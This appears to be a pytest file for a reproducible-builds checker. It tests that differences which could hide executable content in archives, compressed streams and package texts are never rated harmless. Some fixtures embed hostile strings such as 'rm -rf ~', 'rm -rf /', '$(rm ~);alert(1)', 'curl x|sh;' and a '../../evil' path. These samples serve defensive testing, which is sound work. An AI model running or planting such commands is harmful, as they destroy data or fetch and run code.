"""A false `harmless` is the worst thing a cause can say: pairs in which something that runs could tell."""

from __future__ import annotations

import bz2
import gzip
import io
import lzma
import struct
import tarfile
import zipfile
from pathlib import Path

import pytest
import zstandard

from rebuilder.explain.causes.rank import explain
from rebuilder.findings import Severity
from tests.scenes import scene

DATA = Path(__file__).parents[1] / "data" / "causes"
TEXT = b"some text that is packed\n" * 40


def harmless(published: bytes, rebuilt: bytes, name: str = "x") -> list[str]:
    """The causes, if every finding has some, and none worse than harmless; else nothing."""
    found = scene(published, rebuilt, artifact=name)
    causes, left = explain(found)
    worst = {index for cause in causes if cause.severity is not Severity.HARMLESS for index in cause.findings}
    derived = {index for index, one in found.findings() if one.follows}
    assert found.difference.findings, "the two sides are one"
    quiet = not left and not worst - derived and causes
    return [cause.id for cause in causes] if quiet else []


def zipped(*members: tuple[str, bytes], when=(2024, 1, 1, 0, 0, 0), **fields) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, data in members:
            info = zipfile.ZipInfo(name, when)
            for key, value in fields.items():
                setattr(info, key, value)
            archive.writestr(info, data)
    return out.getvalue()


def tarred(*names: str, mtime: float = 1_700_000_000, form: int = tarfile.USTAR_FORMAT, pax=None) -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=form) as archive:
        for name in names:
            info = tarfile.TarInfo(name)
            info.mtime, info.size, info.pax_headers = mtime, 4, pax or {}
            archive.addfile(info, io.BytesIO(b"text"))
    return out.getvalue()


def headed(archive: bytes, at: int, new: bytes) -> bytes:
    """The tar with bytes of its first header replaced, and the right checksum."""
    raw = bytearray(archive[:512])
    raw[at : at + len(new)] = new
    raw[148:156] = b" " * 8
    raw[148:156] = b"%06o\0 " % sum(raw)
    return bytes(raw) + archive[512:]


def gzipped(*parts: bytes) -> bytes:
    return b"".join(gzip.compress(part, mtime=0) for part in parts)


def flags(archive: bytes, at: int, value: int) -> bytes:
    """The zip with 16 bits of its only local header (offset ``at``) and of its central header replaced."""
    raw = bytearray(archive)
    raw[at : at + 2] = struct.pack("<H", value)
    central = archive.index(b"PK\x01\x02")
    raw[central + at + 2 : central + at + 4] = struct.pack("<H", value)
    return bytes(raw)


OTHER = 1_600_000_000
PLAIN = zipped(("a.txt", TEXT))

READ_TIMES = {
    "a pyc that is valid as long as its source has a time, in a zip": (
        zipped(("a.py", b"1\n"), ("a.pyc", b"2\n")),
        zipped(("a.py", b"1\n"), ("a.pyc", b"2\n"), when=(2020, 1, 1, 0, 0, 0)),
    ),
    "the same, three hours off": (
        zipped(("a.py", b"1\n"), ("a.pyc", b"2\n")),
        zipped(("a.py", b"1\n"), ("a.pyc", b"2\n"), when=(2024, 1, 1, 3, 0, 0)),
    ),
    "the same in a tar": (
        tarred("a.py", "__pycache__/a.cpython-311.pyc"),
        tarred("a.py", "__pycache__/a.cpython-311.pyc", mtime=OTHER),
    ),
    "sources that make looks at": (tarred("Makefile", "x.y", "x.c"), tarred("Makefile", "x.y", "x.c", mtime=OTHER)),
    "a configure script": (tarred("x-1/configure"), tarred("x-1/configure", mtime=OTHER)),
    "a time no clock has": (tarred("a"), headed(tarred("a"), 136, b"\x80" + b"\x7f" * 11)),
}

FIELDS = {
    "a prefix that only some readers take": (
        headed(headed(tarred("a"), 257, b"ustar  \0"), 345, b"\0" * 8),
        headed(headed(tarred("a"), 257, b"ustar  \0"), 345, b"etc/x\0"),
    ),
    "a magic nobody knows": (tarred("a"), headed(tarred("a"), 257, b"evil!\0")),
    "text behind the end of a field": (tarred("a"), headed(tarred("a"), 265, b"\0hidden")),
    "an access time that is no number": (
        tarred("a", form=tarfile.PAX_FORMAT, pax={"atime": "1"}),
        tarred("a", form=tarfile.PAX_FORMAT, pax={"atime": "x"}),
    ),
    "one block of zeros at the end, which some readers go on after": (
        tarred("a")[:1024] + b"\0" * 512,
        tarred("a")[:1024] + b"\0" * 1024,
    ),
    "one block of zeros between two archives": (
        tarred("a")[:1024] + b"\0" * 512 + tarred("b"),
        tarred("a")[:1024] + b"\0" * 1024 + tarred("b"),
    ),
    "a version of zip that readers refuse": (PLAIN, flags(PLAIN, 4, 99)),
    "an encoding for a name that is not ASCII": (
        zipped(("\u00e4.txt", TEXT)),
        flags(zipped(("\u00e4.txt", TEXT)), 6, 0),
    ),
    "the same for a name that is not UTF-8": (
        zipped(("aa.txt", TEXT)).replace(b"aa.txt", b"\x82\x83.txt"),
        flags(zipped(("aa.txt", TEXT)).replace(b"aa.txt", b"\x82\x83.txt"), 6, 0x800),
    ),
    "directories that class loaders look for": (zipped(("d/", b""), ("d/a", TEXT)), zipped(("d/a", TEXT))),
    "an order in which a file stands before what is below it": (
        zipped(("d", TEXT), ("d/a", TEXT)),
        zipped(("d/a", TEXT), ("d", TEXT)),
    ),
    "an order of names that some systems take for one": (
        zipped(("\u00e4", TEXT), ("a\u0308", b"2")),
        zipped(("a\u0308", b"2"), ("\u00e4", TEXT)),
    ),
    "members that must be stored, packed": (
        zipped(("lib.jar", TEXT)),
        zipped(("lib.jar", TEXT), compress_type=zipfile.ZIP_DEFLATED),
    ),
    "a name to unpack to, elsewhere": (
        gzip_named := gzip.compress(TEXT, mtime=0),
        gzip_named[:3] + b"\x08" + gzip_named[4:10] + b"../../evil\0" + gzip_named[10:],
    ),
}


def skippable(payload: bytes) -> bytes:
    return b"\x50\x2a\x4d\x18" + len(payload).to_bytes(4, "little") + payload


ZSTD = zstandard.ZstdCompressor().compress
STREAMS = {
    "two xz streams, of which some readers take the first": (
        lzma.compress(TEXT),
        lzma.compress(TEXT[:10]) + lzma.compress(TEXT[10:]),
    ),
    "padding after xz": (lzma.compress(TEXT), lzma.compress(TEXT) + b"\0" * 4),
    "data after xz": (lzma.compress(TEXT), lzma.compress(TEXT) + b"data"),
    "an xz stream without a checksum": (lzma.compress(TEXT), lzma.compress(TEXT, check=lzma.CHECK_NONE)),
    "two bzip2 streams": (bz2.compress(TEXT), bz2.compress(TEXT[:10]) + bz2.compress(TEXT[10:])),
    "two zstd frames": (ZSTD(TEXT), ZSTD(TEXT[:10]) + ZSTD(TEXT[10:])),
    "a zstd frame that holds anything and is skipped": (ZSTD(TEXT), skippable(b"#!/bin/sh") + ZSTD(TEXT)),
    "two gzip members": (gzipped(TEXT), gzipped(TEXT[:10], TEXT[10:])),
    "data after gzip": (gzipped(TEXT), gzipped(TEXT) + b"data"),
}


WHEEL = b"Wheel-Version: 1.0\nGenerator: bdist_wheel (0.41)\nRoot-Is-Purelib: true\nTag: py3-none-any\n"


def wheel(name: str, data: bytes) -> bytes:
    return zipped((f"a-1.dist-info/{name}", data), ("a/__init__.py", b""))


METADATA = b"Metadata-Version: 2.1\nName: a\nVersion: 1\n"
ROWS = b"a/__init__.py,sha256=AAAA,1\na/__init__.py,sha256=BBBB,1\n"
TEXTS: dict[str, tuple[str, bytes, bytes]] = {
    "the line ends of WHEEL": (
        "a-1.dist-info/WHEEL",
        WHEEL,
        WHEEL.replace(b"0.41", b"0.42").replace(b"true\n", b"true\r\n"),
    ),
    "a version of the metadata that installers refuse": (
        "a-1.dist-info/METADATA",
        METADATA,
        METADATA.replace(b"2.1", b"9.0"),
    ),
    "two rows for one file": (
        "a-1.dist-info/RECORD",
        ROWS,
        b"".join(reversed(ROWS.splitlines(keepends=True))),
    ),
    "a command behind a date": (
        "usr/share/doc/x/run.sh",
        b'echo "Last updated on 2019-01-01 x"\n',
        b'echo "Last updated on 2019-01-01 x"; rm -rf ~\n',
    ),
    "a command behind a date, in a page": (
        "usr/share/doc/x/a.html",
        b"<p>Last updated on January 2019 x</p>\n",
        b"<p>Last updated on $(rm ~);alert(1) x</p>\n",
    ),
    "a year that is a number of a program": (
        "usr/lib/app/html/a.js",
        b"if (c) { return 2019; }\n",
        b"if (c) { return 2021; }\n",
    ),
    "the same in a script of a page": (
        "usr/share/doc/x/a.html",
        b"<script>\nif (c) { return 2019; }\n</script>\n",
        b"<script>\nif (c) { return 2021; }\n</script>\n",
    ),
    "the same in an attribute": (
        "usr/share/doc/x/a.html",
        b'<a onclick="if (c) return 2019">\n',
        b'<a onclick="if (c) return 2021">\n',
    ),
    "a program without a suffix": (
        "usr/share/doc/x/examples/run",
        b"#!/bin/sh\nexit $(copyright 2019)\n",
        b"#!/bin/sh\nexit $(copyright 2021)\n",
    ),
    "a comment that is a word of a program": (
        "a.py",
        b'x = "<!-- Generated by Doxygen 1.8 -->"\n',
        b'x = "<!-- Generated by Doxygen 1.9 -->"\n',
    ),
    "plural forms of a catalogue": (
        "a.po",
        b'"POT-Creation-Date: 2019-01-01 10:00+0000\\n"\n"Plural-Forms: nplurals=2; plural=(n != 1);\\n"\n',
        b'"POT-Creation-Date: 2020-01-01 10:00+0000\\n"\n"Plural-Forms: nplurals=2; plural=(n == 1);\\n"\n',
    ),
    "a changed line beside a stamp": (
        "postinst",
        b"# Automatically added by dh_x/13.1\ntrue\n",
        b"# Automatically added by dh_x/13.2\nfalse\n",
    ),
    "the id an encrypted PDF has its key from": (
        "a.pdf",
        b"%PDF-1.4\n/Encrypt 1\n/ID [<" + b"0" * 32 + b"><" + b"0" * 32 + b">]\n",
        b"%PDF-1.4\n/Encrypt 1\n/ID [<" + b"1" * 32 + b"><" + b"1" * 32 + b">]\n",
    ),
    "a date that a script of a PDF reads": (
        "a.pdf",
        b"%PDF-1.4\n/JS (app.alert(this.info))\n/CreationDate (D:20200101)\n",
        b"%PDF-1.4\n/JS (app.alert(this.info))\n/CreationDate (D:20210101)\n",
    ),
    "a script below a changelog that was shortened": (
        "usr/share/doc/x/changelog.Debian",
        (entry := b"x (2) unstable; urgency=low\n\n  * Two.\n\n -- A <a@b>  Mon, 01 Jan 2024 00:00:00 +0000\n")
        + b"\nx (1) unstable; urgency=low\n\n  * One.\n\nrm -rf /\n",
        entry
        + b"\n# Older entries have been removed from this changelog.\n"
        + b"# To read the complete changelog use `apt changelog x`.\n",
    ),
}


@pytest.mark.parametrize("case", READ_TIMES)
def test_a_time_that_something_reads_is_not_harmless(case: str) -> None:
    assert harmless(*READ_TIMES[case]) == []


@pytest.mark.parametrize("case", FIELDS)
def test_a_field_that_readers_take_in_two_ways_is_not_harmless(case: str) -> None:
    assert harmless(*FIELDS[case]) == []


@pytest.mark.parametrize("case", STREAMS)
def test_a_stream_that_is_more_than_packed_bytes_is_not_harmless(case: str) -> None:
    assert harmless(*STREAMS[case]) == []


@pytest.mark.parametrize("case", TEXTS)
def test_what_hides_beside_or_in_a_stamp_is_not_harmless(case: str) -> None:
    name, published, rebuilt = TEXTS[case]
    assert harmless(published, rebuilt, name) == []
    assert harmless(tar_of(name, published), tar_of(name, rebuilt)) == []


def tar_of(name: str, data: bytes) -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.USTAR_FORMAT) as archive:
        info = tarfile.TarInfo(name)
        info.size, info.mtime = len(data), 1_700_000_000
        archive.addfile(info, io.BytesIO(data))
    return out.getvalue()


def digests(payload: bytes, name: str, text: bytes) -> bytes:
    import hashlib

    found = text.replace(b"DIGEST", hashlib.sha256(payload).hexdigest().encode())
    return zipped(("data.bin", payload), (name, found))


@pytest.mark.parametrize("name", ["install.sh", "check.py", "a.pth", "lib/x"])
def test_a_program_that_holds_the_digest_of_a_changed_file_is_no_list_of_checksums(name: str) -> None:
    text = b"fetch && test $(sha256sum data.bin) = DIGEST && run data.bin\n"
    found = scene(digests(b"one", name, text), digests(b"two", name, text))
    causes, _ = explain(found)
    told = [cause for cause in causes if cause.id == "md5sums"]
    assert [cause.severity for cause in told] == [Severity.INSPECT]


def test_the_time_in_a_pyc_and_a_build_id_are_to_be_looked_at() -> None:
    """The one decides which code is run, the other lies in the memory of what runs: shader caches key by it."""
    for cause in ("pyc-times", "build-id", "debug-info"):
        (published,) = (DATA / cause).glob("published.*")
        (rebuilt,) = (DATA / cause).glob("rebuilt.*")
        causes, _ = explain(scene(published, rebuilt))
        assert [one.severity for one in causes if one.id == cause] == [Severity.INSPECT], cause


def test_a_debuglink_to_the_debug_file_of_another_build_id_is_not_harmless() -> None:
    (path,) = (DATA / "debuglink").glob("published.*")
    raw = path.read_bytes()
    at = raw.index(b".debug\0")
    name = raw.rindex(b"\0", 0, at) + 1
    assert harmless(raw, raw[:name] + raw[name:at][::-1] + raw[at:]) == []


def test_a_text_in_the_place_of_a_compilers_name_is_not_harmless() -> None:
    (path,) = (DATA / "compiler-version").glob("published.*")
    raw = path.read_bytes()
    at = raw.index(b"GCC: (")
    evil = b"curl x|sh;"
    assert harmless(raw, raw[:at] + evil + raw[at + len(evil) :]) == []


def test_what_is_plain_is_still_harmless() -> None:
    """Or the cases above would show nothing."""
    assert harmless(PLAIN, zipped(("a.txt", TEXT), when=(2020, 1, 1, 0, 0, 0))) == ["zip-times"]
    assert harmless(tarred("a"), tarred("a", mtime=OTHER)) == ["tar-times"]
    assert harmless(tarred("a"), tarred("a", form=tarfile.GNU_FORMAT)) == ["tar-format"]
    assert harmless(lzma.compress(TEXT), lzma.compress(TEXT, preset=9)) == ["xz-stream"]
    assert harmless(bz2.compress(TEXT * 9000, 1), bz2.compress(TEXT * 9000, 9)) == ["bzip2-stream"]
    assert harmless(gzipped(TEXT), gzip.compress(TEXT, mtime=1)) == ["gzip-header-time", "gzip-header-os"]
    page = "usr/share/doc/x/a.html"
    assert harmless(b"<p>Copyright 2019 x\n", b"<p>Copyright 2020 x\n", page) == ["copyright-year"]
    assert harmless(wheel("WHEEL", WHEEL), wheel("WHEEL", WHEEL.replace(b"0.41", b"0.42")))
